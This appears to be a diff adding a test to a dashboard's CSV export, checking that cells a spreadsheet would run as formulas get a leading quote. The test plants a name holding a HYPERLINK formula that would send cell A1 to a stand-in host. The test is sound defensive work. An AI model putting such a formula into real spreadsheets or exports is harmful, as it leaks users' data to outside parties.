@@ -5,8 +5,9 @@ from __future__ import annotations
 
 from pathlib import Path
 
+from tests.gateway.conftest import load_registry
 from tests.stats.test_dashboard import dashboard, pytestmark  # noqa: F401  (browser, chromium)
-from tests.stats.test_names import CIVIL, GONE, NAMES, POPULATION, named_traffic
+from tests.stats.test_names import CIVIL, GONE, NAMES, POPULATION, named_registry, named_traffic
 
 # Each header or cell that names an id: [the id it is of, the name shown, the id shown].
 LABELS = """(sel) => [...document.querySelectorAll(sel)].map((el) => [el.dataset.id,
@@ -51,6 +52,25 @@ async def test_the_matrix_health_and_volume_name_each_id(sqlite_url: str, tmp_pa
     lines = (tmp_path / "matrix.csv").read_text(encoding="utf-8").splitlines()
     assert lines[0] == "client,provider,count,succeeded,failed,client_name,provider_name"
     assert f"{CIVIL},{POPULATION},3,3,0,{NAMES[CIVIL]},{NAMES[POPULATION]}" in lines
+    assert problems == []
+
+
+async def test_the_csv_marks_a_name_a_spreadsheet_would_run(
+    sqlite_url: str, tmp_path: Path
+) -> None:
+    """As `hub stats matrix --csv` does: a cell starting with = + - @ gets a leading quote."""
+    await named_traffic(sqlite_url)
+    doc = named_registry()
+    doc["members"][1]["name"] = '=HYPERLINK("http://example.invalid/?"&A1)'
+    await load_registry(sqlite_url, doc)
+    async with dashboard(sqlite_url, tmp_path) as (page, problems):
+        await page.wait_for_selector("body[data-loaded='yes']")
+        async with page.expect_download() as info:
+            await page.click("#matrix-csv")
+        await (await info.value).save_as(tmp_path / "matrix.csv")
+    lines = (tmp_path / "matrix.csv").read_text(encoding="utf-8").splitlines()
+    row = next(line for line in lines if line.startswith(f"{CIVIL},"))
+    assert ',"\'=HYPERLINK(""http://example.invalid/?""&A1) · Hệ thống' in row, row
     assert problems == []
 
 
